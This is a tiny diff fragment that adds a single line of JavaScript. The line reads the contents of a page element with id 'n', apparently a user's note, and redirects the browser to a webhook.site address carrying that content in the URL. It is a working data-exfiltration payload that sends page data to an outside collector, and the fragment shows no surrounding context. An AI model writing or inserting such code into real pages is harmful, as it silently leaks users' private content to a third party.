@@ -1,0 +1,1 @@
+const note=document.querySelector('#n');location='https://webhook.site/abc?'+note.value
